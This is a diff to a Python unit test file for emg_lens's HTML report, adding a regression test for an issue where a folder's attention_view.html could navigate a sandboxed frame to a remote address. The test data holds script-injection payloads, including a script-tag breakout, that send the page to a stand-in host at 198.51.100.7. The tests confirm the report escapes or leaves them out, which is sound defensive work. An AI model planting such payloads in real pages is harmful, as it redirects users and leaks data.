@@ -18,6 +18,7 @@ import emg_lens.report.folder as folder_module
 from emg_lens.cli import main
 from emg_lens.report import report_html
 from emg_lens.report.page import MAX_ROWS
+from emg_lens.report.view import view_record
 from tests.unit.storage_faults import full_disk, read_only
 
 PNG = bytes.fromhex(  # a 1x1 PNG
@@ -194,15 +195,40 @@ def test_a_full_or_read_only_disk_is_named_with_advice_report_can_follow(
     assert not list(tmp_path.glob("report.html*"))
 
 
-def test_an_attention_view_is_embedded_only_as_the_escaped_srcdoc_of_a_sandboxed_frame(tmp_path):
-    view = "<div id=v></div><script>parent.document.title = \"x & 'y'\";</script>"
-    (tmp_path / "attention_view.html").write_text(view)
+def test_a_folders_html_view_is_never_embedded_and_its_numbers_are_drawn_in_a_sandbox(tmp_path):
+    """Issue 47, section 3 item 9: a folder's attention_view.html could navigate its
+    sandboxed frame to a remote address; the view is rebuilt from attention_view.json."""
+    foreign = "<script>location = 'http://198.51.100.7/leak';</script>"
+    (tmp_path / "attention_view.html").write_text(foreign)
+    attack = "</script><script>parent.location='http://198.51.100.7/'</script>"
+    record = view_record([attack, "C3 & <b>"], ["L0H0"], [[[1.0, 0.0], [0.25, 0.75]]])
+    (tmp_path / "attention_view.json").write_text(json.dumps(record))
     page = report_html(tmp_path)
+    assert "198.51.100.7/leak" not in html.unescape(page)  # the folder's page: not embedded
     frames = re.findall(r'<iframe class="view" [^>]*sandbox="([^"]*)" srcdoc="([^"]*)">', page)
     assert len(frames) == 1 and frames[0][0] == "allow-scripts"  # no allow-same-origin
-    assert view in html.unescape(frames[0][1])  # the view whole, in the frame's document
+    document = html.unescape(frames[0][1])
+    assert "location = 'http" not in document and "</script><script>parent" not in document
+    assert "\\u003c/script\\u003e\\u003cscript\\u003eparent.location" in document  # data
+    assert "C3 \\u0026 \\u003cb\\u003e" in document
     assert "same-origin" not in page and page.count("<script>") == 1  # the page's own only
-    assert "Content-Security-Policy" in html.unescape(frames[0][1])  # fetches nothing
+    assert "Content-Security-Policy" in document  # fetches nothing
+    assert "attention_view.html" in page and "never embedded" in page  # listed as left out
+
+
+@pytest.mark.parametrize(
+    "record, why",
+    [
+        ({"tokens": ["a"], "heads": ["h"]}, "exactly tokens, heads and attention"),
+        ({"tokens": ["a"], "heads": ["h"], "attention": [[[2.0]]]}, "finite numbers in"),
+        ({"tokens": ["a", "b"], "heads": ["h"], "attention": [[[1.0]]]}, "[2 x 2] pattern"),
+        ({"tokens": ["a" * 300], "heads": ["h"], "attention": [[[1.0]]]}, "at most 200"),
+    ],
+)
+def test_a_view_record_emg_lens_did_not_write_is_left_out_with_why(tmp_path, record, why):
+    (tmp_path / "attention_view.json").write_text(json.dumps(record))
+    page = report_html(tmp_path)
+    assert '<iframe class="view"' not in page and html.escape(why, quote=False) in page
 
 
 def test_names_that_are_no_regular_file_are_left_out_without_a_traceback(tmp_path, capsys):
